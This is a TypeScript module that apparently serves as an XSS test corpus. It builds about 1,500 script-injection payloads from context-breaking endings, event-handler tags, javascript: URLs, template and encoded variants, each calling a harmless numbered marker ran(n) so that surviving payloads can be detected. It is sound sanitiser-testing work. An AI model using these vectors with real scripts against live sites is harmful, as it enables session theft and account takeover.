// Texts that would run a script if a page, a mail or a reader took them for more than text. Each calls `ran` with its own number.

/** Ends what the text may stand in: attributes, elements whose content is raw, comments, JSON in a script, templates. */
const endings = [
  '',
  '">',
  "'>",
  '`>',
  '</script>',
  '</title>',
  '</textarea>',
  '</style>',
  '-->',
  ']]>',
  '</noscript>',
  '\\">',
  '</template>',
  '</select></svg>',
  '" ',
  "' ",
  '\u2028',
  '*/',
  '</a>',
  '</button></form>',
  '</option></select>',
  '<!--><',
]

const events: readonly [string, string][] = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['style', 'onload'],
  ['audio src=x', 'onerror'],
  ['video src=x', 'onerror'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['marquee', 'onstart'],
  ['x contenteditable autofocus', 'onfocus'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['a href=# autofocus', 'onmouseover'],
  ['iframe', 'onload'],
  ['image src=x', 'onerror'],
]

const wholes: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=9>x</text></a></svg>`,
  (js) => `<iframe srcdoc="&lt;script>parent.${js}&lt;/script>">`,
  (js) => `<iframe src="javascript:parent.${js}">`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="java&#10;script:${js}">x</a>`,
  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
  (js) => `<button formaction="javascript:${js}">x</button>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<math><mtext></p><img src=x onerror=${js}></mtext></math>`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `onmouseover=${js} onfocus=${js} autofocus x=`,
  (js) => `javascript:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}`,
  (js) => `[x](javascript:${js})`,
  (js) => `\\u003cimg src=x onerror=${js}\\u003e`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `%3Cimg%20src=x%20onerror=${js}%3E`,
]

/** Every payload, each once; at least 1,500. */
export function scriptPayloads(): readonly string[] {
  const vectors = [
    ...events.map(
      ([element, event]) =>
        (js: string) =>
          `<${element} ${event}=${js}>`,
    ),
    ...events.map(
      ([element, event]) =>
        (js: string) =>
          `<${element.replaceAll(' ', '/')}/${event.toUpperCase()}="${js}"//`,
    ),
    ...events.map(
      ([element, event]) =>
        (js: string) =>
          `<${element.toUpperCase()}\t${event}\n=\n'${js}'>`,
    ),
    ...wholes,
  ]
  const shapes = endings.flatMap((ending) => vectors.map((vector) => (js: string) => `${ending}${vector(js)}`))
  return shapes.map((shape, n) => shape(`ran(${n})`))
}

/** The numbers of the payloads that stand in a text. */
export function payloadsIn(text: string): number[] {
  return [...text.matchAll(/ran\((\d+)\)/g)].map((match) => Number(match[1]))
}
